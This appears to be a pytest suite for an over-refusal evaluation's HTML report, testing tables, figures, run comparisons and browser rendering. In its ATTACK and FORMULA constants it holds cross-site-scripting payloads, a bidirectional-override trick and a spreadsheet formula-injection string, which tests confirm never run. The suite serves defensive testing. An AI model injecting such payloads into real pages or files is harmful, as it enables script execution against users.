"""The report: its folder, its page in a browser, hostile data, and what two runs differ in."""

from __future__ import annotations

import csv
import gzip
import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pandas as pd
import pytest
from click.testing import CliRunner, Result
from inspect_ai.log import EvalSample
from jsonschema import Draft202012Validator

from made_logs import UNSCORED, made_log, made_sample, votes_log
from or_eval.analysis.report import needs, page, write_report
from or_eval.analysis.report.hostile_text import script_json, shortened, visible
from or_eval.analysis.report.shown_tables import shown_table
from or_eval.analysis.report.table_files import latex, markdown
from or_eval.analysis.report.viewer_links import log_folder, sample_link
from or_eval.cli import main
from replayed import run_replay

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

CHROMIUM = Path("/usr/bin/chromium")
FLAGS = [
    *("--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run"),
    *("--disable-background-networking", "--disable-component-update", "--disable-sync"),
]
SCHEMA = json.loads(
    (Path(needs.__file__).parent / "summary.schema.json").read_text(encoding="utf-8")
)
ATTACK = (
    "</script><script>document.title='owned'</script><img src=x onerror=\"document.title='owned'\">"
    "</textarea><svg onload=document.title='owned'> \u202egnirts desrever\u202c {{ 7*7 }} "
    "<!--<script> \u2028 ]]> &lt;b&gt; $&{}#_^~\\"
)
FORMULA = '=HYPERLINK("http://127.0.0.1:1/"&A1,"x")'


def run(*arguments: object) -> Result:
    return CliRunner().invoke(main, ["report", *map(str, arguments)])


def summary_of(folder: Path) -> dict[str, Any]:
    found: dict[str, Any] = json.loads((folder / "summary.json").read_text("utf-8"))
    Draft202012Validator(SCHEMA).validate(found)
    return found


def embedded(folder: Path, name: str) -> Any:
    """Read the data that the page carries for its scripts."""
    html = (folder / "index.html").read_text("utf-8")
    found = re.search(rf'id="{name}">(.*?)</script>', html, re.DOTALL)
    assert found
    return json.loads(found[1])


def varied(model: int, hostile: bool = False) -> list[EvalSample]:
    """Make samples with several categories, languages, methods, labels and outcomes."""
    end = ATTACK if hostile else ""
    samples = []
    for number in range(36):
        refused = float((number * (model + 3)) % 5 < 2)
        samples.append(
            made_sample(
                f"s{number}" + ("/?#&<b>" if hostile else ""),
                UNSCORED if number == 7 else refused,
                prompt=f"prompt {number} {end}",
                response=f"I'm sorry, no. {end}" if refused else f"Sure: {end}",
                reason="no_response" if number == 7 else None,
                label="toxic" if number % 3 == 0 else "safe",
                category=f"category {number % 4}{end}",
                language=("en", "zh", "zh+en")[number % 3 if number % 3 else number % 2],
                method=("persona", "euphemism")[number % 2] + end,
                source=FORMULA if hostile else f"source {number % 2}",
                pair_id=f"pair {number // 2}",
                score={
                    "audited": number % 6 == 1,
                    "stages": {
                        "rules": {"evidence": [{"text": "I'm sorry" + end, "act": "decline"}]},
                        "judge": {"label": "direct_answer"},
                    },
                },
            )
        )
    return samples


@pytest.fixture(scope="module")
def logs(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("logs")
    for model in range(5):
        made_log(folder / f"{model}.eval", f"maker/model{model}", varied(model))
    return folder


@pytest.fixture(scope="module")
def report(logs: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    out = tmp_path_factory.mktemp("report") / "out"
    result = run(logs, "--out", out)
    assert result.exit_code == 0, result.output
    assert str(out / "index.html") in result.output.replace("\n", "")
    return out


@pytest.fixture(scope="module")
def hostile_report(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("hostile")
    for model in range(4):
        samples = varied(model, hostile=True)
        if model == 0:
            samples[1].output.choices[0].message.content = "<b>x</b>" * 125_000
        name = (FORMULA, f"{ATTACK}", "x" * 900, "@SUM(1)")[model]
        made_log(folder / f"{model}.eval", name, samples)
    return write_report(folder, folder / "report").parent


@pytest.fixture(scope="module")
def chromium() -> Iterator[Browser]:
    if not CHROMIUM.exists():
        pytest.skip(f"no browser at {CHROMIUM} (Debian's package chromium)")
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
        yield browser
        browser.close()


def open_page(chromium: Browser, folder: Path, **options: Any) -> tuple[Page, list[str]]:
    """Open a report, scroll through it, and give it with all it complained of or asked for."""
    context = chromium.new_context(**{"viewport": {"width": 1280, "height": 800}, **options})
    page, heard = context.new_page(), []
    page.on("console", lambda message: heard.append(f"console: {message.text}"))
    page.on("pageerror", lambda error: heard.append(f"error: {error}"))
    page.on("dialog", lambda dialog: heard.append(f"dialog: {dialog.message}"))
    page.on(
        "request",
        lambda request: (
            heard.append(f"request: {request.url}")
            if request.url.startswith(("http", "ws"))
            else None
        ),
    )
    page.goto((folder / "index.html").as_uri())
    for place in page.locator(".chart").all():
        place.scroll_into_view_if_needed()
        place.locator("svg.marks").first.wait_for(timeout=30_000)
    return page, heard


def test_every_figure_and_table_is_filled_and_written(report: Path) -> None:
    figures = {path.stem for path in (report / "figures").glob("*.png")}
    assert figures == {
        *("trade-off", "classes", "by-category", "radar", "by-language", "by-method", "by-source"),
        *("category-by-language", "method-by-language", "vote-agreement"),
    }
    for ending in ("html", "svg", "csv"):
        assert {path.stem for path in (report / "figures").glob(f"*.{ending}")} == figures
    assert set(embedded(report, "chart-data")) == figures
    tables = {path.stem for path in (report / "tables").glob("*.csv")}
    assert {"runs", "models", "audit", "pairs", "fourfold", "differences", "classes"} <= tables
    assert {"ranking-over-refusal", "without-verdict", "worst-categories"} <= tables
    for ending in ("md", "tex"):
        assert {path.stem for path in (report / "tables").glob(f"*.{ending}")} == tables


def test_rates_in_summary_and_table_are_those_of_the_samples(report: Path) -> None:
    samples = pd.DataFrame(
        [
            {"model": f"maker/model{model}", "label": s.metadata["label"], "value": value}
            for model in range(5)
            for s in varied(model)
            if (value := s.scores["refusal"].value) == value  # type: ignore[index]
        ]
    )
    expected = samples.groupby(["label", "model"])["value"].mean()
    found = summary_of(report)
    for row in found["models"]:
        assert row["over_refusal"] == pytest.approx(expected["safe", row["model"]])
        assert row["toxic_rejection"] == pytest.approx(expected["toxic", row["model"]])
        assert row["over_refusal_lower"] <= row["over_refusal"] <= row["over_refusal_upper"]
        assert row["unscored"] == 1
    table = pd.read_csv(report / "tables" / "models.csv").set_index("model")
    assert table["over_refusal"].to_dict() == pytest.approx(expected["safe"].to_dict())
    assert found["responses"] == {"total": 180, "with_verdict": 175}
    assert found["prompts"] == {"safe": 24, "toxic": 12, "unlabelled": 0}
    assert found["corrected"]
    worst = max(found["models"], key=lambda row: (row["over_refusal"], row["model"]))
    assert any(f"{100 * worst['over_refusal']:.1f} %" in line for line in found["summary"])


def test_browser_holds_refused_safe_prompts_with_evidence_and_link(
    report: Path, logs: Path
) -> None:
    prompts = embedded(report, "prompt-data")
    assert prompts
    assert {prompt["label"] for prompt in prompts} == {"safe"}
    counts = [sum(bool(one["refused"]) for one in prompt["responses"]) for prompt in prompts]
    assert counts == sorted(counts, reverse=True)
    assert counts[-1] > 0
    first = prompts[0]
    assert {one["model"] for one in first["responses"]} == {f"maker/model{n}" for n in range(5)}
    answer = next(one for one in first["responses"] if one["refused"])
    assert answer["class"] == "direct_refusal"
    assert answer["evidence"] == ["I'm sorry"]
    log = f"{answer['model'].removeprefix('maker/model')}.eval"
    assert answer["link"].endswith(f"/#/logs/{log}/samples/sample/{first['id']}/1/")
    assert f"inspect view --log-dir &#39;{logs}&#39;" in (
        (report / "index.html").read_text("utf-8").replace("'", "&#39;")
    )


def test_of_several_epochs_the_first_refused_is_shown(tmp_path: Path) -> None:
    samples = [
        made_sample("p", float(epoch in (2, 3)), epoch=epoch, response=f"answer {epoch}")
        for epoch in (1, 2, 3)
    ]
    made_log(tmp_path / "a.eval", "m", samples)
    [prompt] = embedded(write_report(tmp_path, tmp_path / "out").parent, "prompt-data")
    [answer] = prompt["responses"]
    assert answer["response"] == "answer 2"
    assert (answer["refused_epochs"], answer["epochs"]) == (2, 3)


def test_one_model_on_safe_prompts_only_makes_a_report(tmp_path: Path) -> None:
    votes_log(tmp_path / "logs", "m", {"a": 1.0, "b": 0.0, "c": None})
    found = summary_of(write_report(tmp_path / "logs", tmp_path / "out").parent)
    assert found["alpha"] is None
    assert found["models"][0]["toxic_rejection"] is None
    assert "m refused 50.0 %" in " ".join(found["summary"])


def test_nothing_refused_and_nothing_scored_make_reports(tmp_path: Path) -> None:
    votes_log(tmp_path / "answered", "m", {"a": 0.0, "b": 0.0})
    found = summary_of(write_report(tmp_path / "answered", tmp_path / "one").parent)
    assert found["prompts_shown"] == 0
    votes_log(tmp_path / "unscored", "m", {"a": UNSCORED, "b": UNSCORED})
    found = summary_of(write_report(tmp_path / "unscored", tmp_path / "two").parent)
    assert found["responses"]["with_verdict"] == 0
    assert "That is many" in " ".join(found["summary"])


def test_real_responses_fill_the_report(shared_data: Path, tmp_path: Path) -> None:
    with gzip.open(
        shared_data / "labels" / "xstest_human.jsonl.gz", "rt", encoding="utf-8"
    ) as file:
        rows = [json.loads(line) for line in file]
    ids = sorted({row["id"] for row in rows})[::10]
    part = tmp_path / "part.jsonl"
    part.write_text("\n".join(json.dumps(row) for row in rows if row["id"] in ids), "utf-8")
    prompts = shared_data / "prompts" / "xstest.csv"
    run_replay(part, "--prompts", prompts, "--source", "xstest", "--log-dir", tmp_path / "logs")
    out = write_report(tmp_path / "logs", tmp_path / "out").parent
    found = summary_of(out)
    assert len(found["models"]) == 5
    assert {row["system_prompt"] for row in found["runs"]} == {"not known (stored responses)"}
    assert {"trade-off", "classes", "by-category", "radar", "vote-agreement"} == set(
        embedded(out, "chart-data")
    )


@pytest.mark.parametrize("width", [390, 1280, 2200])
@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_page_holds_at_every_width(
    chromium: Browser, report: Path, width: int, scheme: str
) -> None:
    page, heard = open_page(
        chromium, report, viewport={"width": width, "height": 800}, color_scheme=scheme
    )
    assert heard == []
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    page.context.close()


def test_sorting_filtering_and_opening_by_keyboard(chromium: Browser, report: Path) -> None:
    page, heard = open_page(chromium, report)
    table = page.locator("#table-models")
    heading = table.get_by_role("button", name="over refusal")
    heading.focus()
    page.keyboard.press("Enter")
    assert heading.locator("..").get_attribute("aria-sort") == "descending"
    column = "#table-models tbody tr td:nth-child(2)"
    texts = page.locator(column).all_inner_texts()
    values = [float(text.split(" ")[0]) for text in texts]
    assert values == sorted(values, reverse=True)
    page.keyboard.press("Space")
    assert page.locator(column).all_inner_texts() != texts or len(set(values)) == 1
    first = page.locator("details.prompt summary").first
    first.focus()
    page.keyboard.press("Enter")
    page.locator("details.prompt[open] .response").first.wait_for()
    assert page.locator("details.prompt[open] mark").first.inner_text() == "I'm sorry"
    page.get_by_label("Text").fill("prompt 1 ")
    assert page.locator("details.prompt").count() == page.locator("#found").inner_text().count(
        "1 of"
    )
    page.get_by_label("Text").fill("")
    page.get_by_label("Category").select_option("category 2")
    shown = page.locator("details.prompt .tags").all_inner_texts()
    assert shown
    assert all("category 2" in text for text in shown)
    assert heard == []
    page.context.close()


def test_hostile_data_neither_runs_nor_breaks_the_page(
    chromium: Browser, hostile_report: Path
) -> None:
    page, heard = open_page(chromium, hostile_report, viewport={"width": 390, "height": 800})
    for item in page.locator("details").all():
        item.evaluate("item => { item.open = true; }")
    page.locator("details.prompt .response").first.wait_for()
    page.wait_for_timeout(500)
    assert page.title() == "Over-refusal report"
    assert heard == []
    assert page.locator("main img, main iframe, main textarea, main script").count() == 0
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    text = page.locator("main").inner_text()
    assert "[U+202E]gnirts" in text
    assert "\u202e" not in page.content()
    assert "{{ 7*7 }}" in text
    page.context.close()


def test_hostile_page_is_small_and_says_what_was_cut(hostile_report: Path) -> None:
    assert (hostile_report / "index.html").stat().st_size < 3_000_000
    cut = [
        one["response"]
        for prompt in embedded(hostile_report, "prompt-data")
        for one in prompt["responses"]
        if one["response"].startswith("<b>x")
    ]
    assert len(cut) == 1
    assert cut[0].endswith("of 1,000,000 characters]")
    summary_of(hostile_report)


def test_spreadsheets_get_text(hostile_report: Path) -> None:
    cells = [
        cell
        for path in hostile_report.rglob("*.csv")
        for row in csv.reader(path.read_text("utf-8").splitlines())
        for cell in row
    ]
    assert any(cell == f"'{FORMULA}" for cell in cells)
    for cell in cells:
        if cell.startswith(("=", "+", "-", "@", "\t", "\r")):
            float(cell)
    assert not any("\u202e" in cell for cell in cells)


def test_drawings_hold_no_markup_of_strangers(hostile_report: Path) -> None:
    for path in (hostile_report / "figures").glob("*.svg"):
        drawing = path.read_text("utf-8")
        assert "<script" not in drawing
        assert "<img" not in drawing


def test_hostile_figure_page_runs_nothing(chromium: Browser, hostile_report: Path) -> None:
    page, heard = chromium.new_page(), []
    page.on("pageerror", lambda error: heard.append(str(error)))
    page.goto((hostile_report / "figures" / "by-category.html").as_uri())
    page.locator("svg, canvas").first.wait_for()
    assert page.title() != "owned"
    assert heard == []
    page.close()


def test_markdown_and_latex_are_escaped() -> None:
    shown = shown_table(pd.DataFrame({"model_name": ["a|b <i> [x](y)\n*c*", "50 % & $x_1$ \\ ^~"]}))
    assert markdown(shown).splitlines()[2:] == [
        "| a\\|b &lt;i&gt; \\[x\\]\\(y\\) \\*c\\* |",
        "| 50 % & $x\\_1$ \\\\ ^\\~ |".replace("&", "&amp;"),
    ]
    assert r"50 \% \& \$x\_1\$ \textbackslash{} \textasciicircum{}\textasciitilde{} \\" in latex(
        shown, "T"
    )


def test_intervals_stand_beside_their_figures() -> None:
    frame = pd.DataFrame(
        [
            {"model": "a", "over_refusal": 0.5, "over_refusal_lower": 0.4}
            | {"over_refusal_upper": 0.6, "kappa": 0.25, "lower": 0.1, "upper": float("nan")}
            | {"p_holm": 1e-9, "n": 1200}
        ]
    )
    shown = shown_table(frame)
    assert shown.headers == ["model", "over refusal", "kappa", "p holm", "n"]
    assert [cell.text for cell in shown.rows[0]] == [
        *("a", "50.0 % (40.0 to 60.0)", "0.25", "< 0.001", "1,200")
    ]
    assert [cell.order for cell in shown.rows[0]] == [None, 0.5, 0.25, 1e-9, 1200.0]


def test_texts_for_scripts_and_people() -> None:
    value = {"a": "</script><!-- & \u2028\u2029"}
    text = script_json(value)
    assert not re.search("[<>&\u2028\u2029]", text)
    assert json.loads(text) == value
    assert visible("a\u202eb\u2066\x00\x1b[31m\tc\r\nd") == (
        "a[U+202E]b[U+2066][U+0000][U+001B][31m\tc\nd"
    )
    assert visible("हिन्दी नमस्ते 👩‍🔬") == "हिन्दी नमस्ते 👩‍🔬"
    assert shortened("abcdef", 4) == "abcd … [cut: 2 of 6 characters]"


def test_links_name_samples_below_the_common_folder() -> None:
    logs = ["/runs/one/a.eval", "/runs/two/b c.eval"]
    assert log_folder(logs) == "/runs"
    assert sample_link("/runs", logs[1], "x/1 ?", 2).endswith(
        "/#/logs/two/b%20c.eval/samples/sample/x%2F1%20%3F/2/"
    )
    assert log_folder(["s3://bucket/x/a.eval", "s3://bucket/y/b.eval"]) == "s3://bucket"


def test_comparison_tells_what_flipped_and_whether_it_is_chance(
    tmp_path: Path, chromium: Browser
) -> None:
    before = {f"p{n}": 0.0 for n in range(40)} | {"only-a": 1.0}
    after = {f"p{n}": float(n < 12) for n in range(40)} | {"only-b": 1.0}
    after["p39"] = UNSCORED
    votes_log(tmp_path / "a", "m", before)
    votes_log(tmp_path / "b", "m", after)
    result = run("--compare", tmp_path / "a", tmp_path / "b", "--out", tmp_path / "out")
    assert result.exit_code == 0, result.output
    found = summary_of(tmp_path / "out")
    [change] = found["changes"]
    assert (change["n"], change["newly_refused"], change["newly_answered"]) == (39, 12, 0)
    assert change["difference"] == pytest.approx(12 / 39)
    assert change["p"] == pytest.approx(2 * 0.5**12)
    assert "more than chance" in found["summary"][1]
    assert {flip["id"] for flip in found["flips"]} == {f"p{n}" for n in range(12)}
    assert {flip["change"] for flip in found["flips"]} == {"newly refused"}
    assert any("run A only" in note for note in found["notes"])
    page, heard = open_page(chromium, tmp_path / "out")
    page.locator("details.prompt summary").first.click()
    assert [text.split()[1] for text in page.locator(".response .tags").all_inner_texts()] == [
        "A",
        "B",
    ]
    assert heard == []
    page.context.close()


def test_comparison_of_the_same_run_finds_nothing(tmp_path: Path) -> None:
    votes_log(tmp_path / "a", "m", {"p": 1.0, "q": 0.0})
    votes_log(tmp_path / "b", "other", {"p": 1.0, "q": 0.0})
    result = run("--compare", tmp_path / "a", tmp_path / "b", "--out", tmp_path / "out")
    assert result.exit_code == 0, result.output
    found = summary_of(tmp_path / "out")
    assert found["flips"] == []
    assert found["changes"][0]["model"] == "m → other"
    assert "not more than chance" in found["summary"][1]


def test_comparison_needs_something_in_common(tmp_path: Path) -> None:
    votes_log(tmp_path / "a", "m", {"p": 1.0})
    votes_log(tmp_path / "b", "m", {"q": 0.0})
    result = run("--compare", tmp_path / "a", tmp_path / "b", "--out", tmp_path / "out")
    assert result.exit_code == 1
    assert "no prompt in common" in result.output
    assert not (tmp_path / "out").exists()


def test_wants_logs_or_two_runs(tmp_path: Path) -> None:
    assert run().exit_code == 2
    assert run("x", "--compare", "a", "b").exit_code == 2
    result = run(tmp_path / "none", "--out", tmp_path / "out")
    assert result.exit_code == 1
    assert "Traceback" not in result.output


def test_replaces_a_report_and_nothing_else(tmp_path: Path) -> None:
    votes_log(tmp_path / "logs", "m", {"a": 1.0, "b": 0.0})
    kept = tmp_path / "thesis" / "chapter.txt"
    kept.parent.mkdir()
    kept.write_text("years of work")
    result = run(tmp_path / "logs", "--out", kept.parent)
    assert result.exit_code == 1
    assert "something else than a report" in result.output
    assert kept.read_text() == "years of work"
    out = tmp_path / "report"
    assert run(tmp_path / "logs", "--out", out).exit_code == 0
    (out / "figures" / "stale.png").write_text("old")
    assert run(tmp_path / "logs", "--out", out).exit_code == 0
    assert not (out / "figures" / "stale.png").exists()


def test_a_failed_run_leaves_no_report(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    votes_log(tmp_path / "logs", "m", {"a": 1.0, "b": 0.0})
    out = tmp_path / "report"
    write_report(tmp_path / "logs", out)
    before = (out / "index.html").read_bytes()

    def fail(*_: object) -> None:
        raise OSError("no space left on device")

    monkeypatch.setattr("or_eval.analysis.report.folder.write_tables", fail)
    with pytest.raises(OSError, match="no space"):
        write_report(tmp_path / "logs", out)
    assert (out / "index.html").read_bytes() == before
    assert {path.name for path in tmp_path.iterdir()} == {"logs", "report"}


def test_missing_extra_is_one_line(
    logs: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(needs, "find_spec", lambda name: None if name == "altair" else object())
    result = run(logs, "--out", tmp_path / "out")
    assert result.exit_code == 1
    assert result.output.strip() == ("Error: A report needs altair: pip install 'or-eval[report]'")


def test_page_lets_only_its_own_scripts_run(report: Path) -> None:
    html = (report / "index.html").read_text("utf-8")
    policy = re.search(r'Content-Security-Policy" content="([^"]*)"', html)
    assert policy
    assert "default-src 'none'" in policy[1]
    assert "unsafe-eval" not in policy[1]
    assert policy[1].count("'sha256-") == 2
    assert page._hash("x") == "LXEWQrcmsEQBYnyp+6wy9chTD7GQPMTbAiWHF5IaSIE="
